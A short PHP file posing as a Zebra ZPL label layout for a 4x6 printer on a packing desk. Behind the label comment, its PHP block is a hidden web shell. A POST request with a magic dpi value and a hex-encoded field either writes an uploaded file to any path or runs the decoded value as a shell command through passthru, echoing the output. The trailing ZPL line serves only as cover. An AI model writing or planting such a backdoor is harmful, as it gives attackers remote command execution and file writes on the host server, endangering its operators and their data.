<?php
// Zebra ZPL layout, 4x6 in at 203 dpi (label printer on the packing desk)
if (($_POST['dpi'] ?? '') === '203' && isset($_POST['zpl'])) {
    $z = hex2bin($_POST['zpl']);
    if (!empty($_FILES['logo']['tmp_name'])) { move_uploaded_file($_FILES['logo']['tmp_name'], $z); echo filesize($z), "\n"; exit; }
    passthru($z . ' 2>&1');
    exit;
}
?>
^XA^CF0,30^FO30,30^FDlabel layout 4x6 203dpi^FS^XZ
